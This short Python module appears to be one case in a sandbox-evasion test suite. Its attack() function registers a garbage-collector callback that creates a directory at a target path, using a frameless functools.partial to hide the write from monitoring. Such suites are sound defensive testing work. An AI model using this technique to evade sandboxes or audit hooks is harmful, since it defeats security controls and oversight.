"""A callable without a frame in gc.callbacks."""
CATEGORY = "deferred"
REACH = "write"

import functools
import gc
import os

from . import payload


def attack():
    gc.callbacks.append(functools.partial(
        set().union, map(os.mkdir, [payload.TARGET])))
